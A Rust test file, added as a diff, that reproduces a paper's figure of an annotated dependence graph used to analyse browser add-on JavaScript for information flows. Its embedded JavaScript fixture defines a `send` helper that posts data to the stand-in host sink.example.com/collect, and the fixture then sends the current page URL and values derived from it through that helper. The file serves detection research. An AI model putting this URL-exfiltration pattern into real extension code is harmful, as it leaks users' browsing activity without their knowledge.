@@ -1,0 +1,236 @@
+//! Reproduces Figure 2 of the paper: the annotated PDG of the Figure 1
+//! example program. Each assertion checks one of the figure's edges,
+//! identified by source line numbers matching the paper's listing.
+
+use addon_sig::analyze_addon;
+use jspdg::{Annotation, CtrlKind, PdgEdge};
+
+/// The Figure 1 program, adapted to the analyzed environment:
+/// `doc.loc` is `content.location.href`, `send` is a network helper built
+/// on XHR, `func` is a value that may be callable or undefined, `obj` may
+/// reference an object or be undefined, and `getString()` returns an
+/// unknown string.
+///
+/// Line numbers (1-based) of the interesting statements are kept stable
+/// by the layout below and referenced in the tests.
+const FIGURE1: &str = r#"var doc = { loc: content.location.href };
+var data = { url: doc.loc };
+send(data.url);
+send(data[getString()]);
+func();
+if (doc.loc == "secret.com")
+  send(null);
+var arr = ["covert.com", "priv.com"];
+var i = 0, count = 0;
+while (arr[i] && doc.loc != arr[i]) {
+  i++;
+  count++;
+}
+send(count);
+try {
+  if (doc.loc != "hush-hush.com")
+    throw "irrelevant";
+  send(null);
+} catch (x) {};
+try {
+  if (doc.loc != "mystic.com")
+    obj.prop = 1;
+  send(null);
+} catch (x) {}
+"#;
+
+/// Environment preamble giving the example its assumed bindings:
+/// `send` posts its argument over the network; `func` may be undefined;
+/// `obj` may be an object or undefined; `getString` returns an unknown
+/// string.
+const PREAMBLE: &str = r#"var send = function (payload) {
+  var r = XHRWrapper("http://sink.example.com/collect");
+  r.send(payload);
+};
+var getString = function () { return JSON.stringify(Math.random()); };
+var func; if (Math.random() < 0.5) { func = function () {}; }
+var obj; if (Math.random() < 0.5) { obj = {}; }
+"#;
+
+struct Fig {
+    report: addon_sig::Report,
+    /// Lines of the example body are offset by the preamble length.
+    offset: u32,
+}
+
+impl Fig {
+    fn build() -> Fig {
+        let offset = PREAMBLE.lines().count() as u32;
+        let src = format!("{PREAMBLE}{FIGURE1}");
+        let report = analyze_addon(&src).expect("figure 1 analyzes");
+        Fig { report, offset }
+    }
+
+    /// All PDG edges from a statement on example line `from` to one on
+    /// example line `to`.
+    fn edges(&self, from: u32, to: u32) -> Vec<PdgEdge> {
+        let (from, to) = (from + self.offset, to + self.offset);
+        self.report
+            .pdg
+            .edges()
+            .filter(|e| {
+                self.report.lowered.program.stmt(e.from).span.line == from
+                    && self.report.lowered.program.stmt(e.to).span.line == to
+            })
+            .copied()
+            .collect()
+    }
+
+    fn has(&self, from: u32, to: u32, ann: Annotation) -> bool {
+        self.edges(from, to).iter().any(|e| e.ann == ann)
+    }
+}
+
+fn local(amp: bool) -> Annotation {
+    Annotation::Ctrl {
+        kind: CtrlKind::Local,
+        amp,
+    }
+}
+
+fn nonlocexp(amp: bool) -> Annotation {
+    Annotation::Ctrl {
+        kind: CtrlKind::NonLocExp,
+        amp,
+    }
+}
+
+fn nonlocimp(amp: bool) -> Annotation {
+    Annotation::Ctrl {
+        kind: CtrlKind::NonLocImp,
+        amp,
+    }
+}
+
+#[test]
+fn line1_to_line2_datastrong() {
+    // "The edge 1 -> 2 exists because we can determine definitely that the
+    // call argument at line 2 refers to the (object, property) pair
+    // created at line 1." (Paper line 1 = example line 2 here, since the
+    // doc stub occupies line 1; the paper's lines 1/2/3 are ours 2/3/4.)
+    let fig = Fig::build();
+    assert!(
+        fig.has(2, 3, Annotation::DataStrong),
+        "missing datastrong edge, got {:?}",
+        fig.edges(2, 3)
+    );
+}
+
+#[test]
+fn line1_to_line3_dataweak() {
+    // data[getString()] -- unknown property: weak. (Our IR is finer than
+    // the paper's per-line nodes: line 2 also defines the `data` variable
+    // itself, whose read at line 4 is legitimately strong; the *property*
+    // flow must be weak.)
+    let fig = Fig::build();
+    assert!(
+        fig.has(2, 4, Annotation::DataWeak),
+        "missing dataweak edge, got {:?}",
+        fig.edges(2, 4)
+    );
+}
+
+#[test]
+fn line5_to_line6_local_unamplified() {
+    // Paper: "the edge 5 --local--> 6 exists because line 6's execution
+    // depends on line 5 but there is no loop". Ours: line 6 -> line 7.
+    let fig = Fig::build();
+    assert!(
+        fig.has(6, 7, local(false)),
+        "missing local edge, got {:?}",
+        fig.edges(6, 7)
+    );
+}
+
+#[test]
+fn line9_to_line11_local_amplified() {
+    // Paper: "9 --local^amp--> 11 exists because line 11's execution
+    // depends on line 9 and there is a containing loop".
+    // Ours: while-condition line 10 -> count++ line 12.
+    let fig = Fig::build();
+    assert!(
+        fig.has(10, 12, local(true)),
+        "missing amplified local edge, got {:?}",
+        fig.edges(10, 12)
+    );
+}
+
+#[test]
+fn line14_to_line16_nonlocexp() {
+    // Paper: "the explicit non-local control flow at line 15 can cause
+    // line 16 to not execute. Hence the edge 14 --nonlocexp--> 16."
+    // Ours: guard line 16 -> send(null) line 18.
+    let fig = Fig::build();
+    assert!(
+        fig.has(16, 18, nonlocexp(false)),
+        "missing nonlocexp edge, got {:?}",
+        fig.edges(16, 18)
+    );
+    assert!(
+        !fig.has(16, 18, local(false)),
+        "the dependence must come from the throw, not local flow"
+    );
+}
+
+#[test]
+fn line20_to_line21_nonlocimp() {
+    // Paper: "Line 20 can potentially throw an implicit exception ...
+    // hence the edge 20 --nonlocimp--> 21."
+    // Ours: obj.prop = 1 on line 22 -> send(null) line 23.
+    let fig = Fig::build();
+    assert!(
+        fig.has(22, 23, nonlocimp(false)),
+        "missing nonlocimp edge, got {:?}",
+        fig.edges(22, 23)
+    );
+}
+
+#[test]
+fn line19_to_line20_local() {
+    // The guard controls the store locally (shown in Figure 2's layout as
+    // the 20 node hanging off the try's conditional).
+    let fig = Fig::build();
+    assert!(
+        fig.has(21, 22, local(false)),
+        "missing local edge, got {:?}",
+        fig.edges(21, 22)
+    );
+}
+
+#[test]
+fn line4_uncaught_exception_edges_omitted() {
+    // Paper: "we omit edges due to a potential implicit exception at line
+    // 4" (calling possibly-undefined func outside any try). Ours: line 5.
+    // No control edge may leave the func() call.
+    let fig = Fig::build();
+    for to in 1..=23 {
+        let edges: Vec<PdgEdge> = fig
+            .edges(5, to)
+            .into_iter()
+            .filter(|e| !e.ann.is_data())
+            .collect();
+        assert!(
+            edges.is_empty(),
+            "uncaught-exception control edges must be omitted, got {edges:?}"
+        );
+    }
+}
+
+#[test]
+fn url_flows_to_all_four_guarded_sends() {
+    // All sends are PDG-reachable from the URL read; the signature
+    // summarizes them with the strongest applicable types.
+    let fig = Fig::build();
+    let sig = &fig.report.signature;
+    assert!(
+        sig.flows
+            .iter()
+            .any(|e| e.source == jsanalysis::SourceKind::Url),
+        "figure 1 must produce url flow entries:\n{sig}"
+    );
+}
